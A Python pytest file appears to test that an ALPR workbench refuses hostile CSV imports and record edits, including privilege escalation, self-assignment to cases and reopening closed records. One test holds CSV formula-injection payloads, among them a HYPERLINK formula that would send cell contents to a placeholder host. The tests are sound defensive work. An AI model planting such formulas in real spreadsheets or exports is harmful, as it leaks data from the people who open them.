"""Attacks on onboarding (issue #16, item 1): imports and edits of users, cases and networks.

Each attack runs against a real store made by ``init`` and a real audit log, through the same
governance functions the service calls. Each must be refused, change nothing stored, and
leave a refused audit record naming the acting user.
"""

from __future__ import annotations

import datetime as dt

import polars as pl
import pytest

from alpr_workbench.governance import onboarding
from alpr_workbench.governance.admin import AdminRefused
from alpr_workbench.governance.audit_log import AuditLog
from alpr_workbench.policy import load_policy
from alpr_workbench.service.initialize import init_workbench
from alpr_workbench.store import Store

pytestmark = pytest.mark.attack

PASSPHRASE = "onboarding attack passphrase, not a secret"
ADMIN, ADMIN2, SUPER = "a.admin", "b.admin", "c.super"
NOW = dt.datetime.now(dt.UTC)
POLICY = load_policy()


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    home = tmp_path_factory.mktemp("attack-onboarding") / "home"
    init_workbench(home, ADMIN, "Alice Admin", passphrase=PASSPHRASE)
    store = Store.open(home, passphrase=PASSPHRASE)
    log = AuditLog.open(home, store.keystore)
    day = (NOW - dt.timedelta(days=5)).date().isoformat()
    users = (
        "User ID,Name,Job Title,Role,Approved By,Approval Date,Training Date\n"
        f"{ADMIN2},Bob Admin,IT Administrator,administrator,{ADMIN},{day},{day}\n"
        f"{SUPER},Carol Super,Sergeant,supervisor,{ADMIN},{day},{day}\n"
        f"d.det,Dan Det,Detective,investigator,{ADMIN},{day},{day}\n"
        f"e.gone,Eve Gone,Detective,investigator,{ADMIN},{day},{day}\n"
    )
    onboarding.import_csv(store, log.append, "users", users.encode(), actor=ADMIN,
                          policy=POLICY, now=NOW)
    onboarding.import_csv(
        store, log.append, "networks",
        b"Network,Name,Type,Owner\nbpd-city,City,City,City of Burbank\n"
        b"hd-olive,Home Depot,Private Business,Home Depot U.S.A. Inc.\n",
        actor=ADMIN, policy=POLICY, now=NOW,
    )
    onboarding.import_csv(
        store, log.append, "cases",
        b"Case #,Title,Offense,Opened,Investigators\n"
        b"BPD-2026-000100,Stolen car,Motor Vehicle Theft,2026-01-05,d.det\n",
        actor=ADMIN, policy=POLICY, now=NOW,
    )
    onboarding.separate_user(store, log.append, "e.gone", actor=ADMIN, policy=POLICY, now=NOW)
    return store, log


def _refused(store, log, table, data: bytes, actor: str, error=onboarding.ImportFileError):
    before = store.tables.read(table)
    seen = log.events().height
    with pytest.raises(error) as exc:
        onboarding.import_csv(store, log.append, table, data, actor=actor, policy=POLICY,
                              now=NOW, name="attack.csv")
    assert store.tables.read(table).equals(before)
    new = log.events().slice(seen)
    assert new["outcome"].to_list() == ["refused"] and new["user_id"].to_list() == [actor]
    return str(exc.value)


def test_formula_injection_in_a_name_is_refused(setup):
    store, log = setup
    said = _refused(store, log, "users",
                    b'User ID,Name,Title,Role\nf.x,"=HYPERLINK(""http://x/?""&A1)",Detective,'
                    b"investigator\ng.y,@SUM(1+1),Detective,investigator\n", ADMIN)
    assert "line 2" in said and "line 3" in said and "formula" in said


def test_a_supervisor_cannot_make_themselves_administrator_by_import(setup):
    store, log = setup
    said = _refused(store, log, "users",
                    f"User ID,Name,Title,Role\n{SUPER},Carol Super,Sergeant,administrator\n"
                    .encode(), SUPER, error=AdminRefused)
    assert "administer" in said


def test_an_administrator_cannot_change_their_own_record_by_import(setup):
    store, log = setup
    said = _refused(store, log, "users",
                    f"User ID,Name,Title,Role\n{ADMIN},Alice Admin,IT Administrator,auditor\n"
                    .encode(), ADMIN)
    assert "your own record" in said


def test_an_import_cannot_assign_the_importer_to_a_case(setup):
    store, log = setup
    said = _refused(store, log, "cases",
                    f"Case #,Investigators\nBPD-2026-000100,d.det;{ADMIN2}\n".encode(), ADMIN2)
    assert "assign yourself" in said
    before = store.tables.read("cases")
    with pytest.raises(onboarding.ImportFileError):
        onboarding.edit_record(store, log.append, "cases", "BPD-2026-000100",
                               {"investigators": f"d.det {ADMIN2}"}, actor=ADMIN2,
                               policy=POLICY, now=NOW)
    assert store.tables.read("cases").equals(before)


def test_a_separated_user_is_not_reactivated_by_reimport(setup):
    store, log = setup
    said = _refused(store, log, "users",
                    b"User ID,Name,Title,Role,Active,Separated\n"
                    b"e.gone,Eve Gone,Detective,investigator,yes,\n", ADMIN)
    assert "does not re-enable" in said
    said = _refused(store, log, "users",
                    b"User ID,Separated\ne.gone,2099-01-01\n", ADMIN)
    assert "does not change a separation" in said
    gone = store.tables.read("users").filter(pl.col("user_id") == "e.gone")
    assert gone["is_active"].to_list() == [False]


def test_a_closed_case_is_not_reopened_by_reimport(setup):
    store, log = setup
    onboarding.import_csv(store, log.append, "cases",
                          b"Case #,Title,Offense,Opened,Status,Closed\n"
                          b"BPD-2026-000200,Old case,Burglary,2026-01-05,Closed,2026-02-01\n",
                          actor=ADMIN, policy=POLICY, now=NOW)
    said = _refused(store, log, "cases", b"Case #,Status\nBPD-2026-000200,Open\n", ADMIN)
    assert "does not reopen" in said


def test_a_private_network_is_not_made_department_owned(setup):
    store, log = setup
    said = _refused(store, log, "networks",
                    b"Network,Department Owned\nhd-olive,yes\n", ADMIN)
    assert "grant" in said
    before = store.tables.read("networks")
    with pytest.raises(onboarding.ImportFileError):
        onboarding.edit_record(store, log.append, "networks", "hd-olive",
                               {"department_owned": "yes"}, actor=ADMIN, policy=POLICY, now=NOW)
    assert store.tables.read("networks").equals(before)


def test_a_generic_account_is_not_created_by_import(setup):
    store, log = setup
    said = _refused(store, log, "users",
                    b"User ID,Name,Title,Role\ndispatch1,Front Desk Login,Police Officer,"
                    b"analyst\n", ADMIN)
    assert "generic" in said
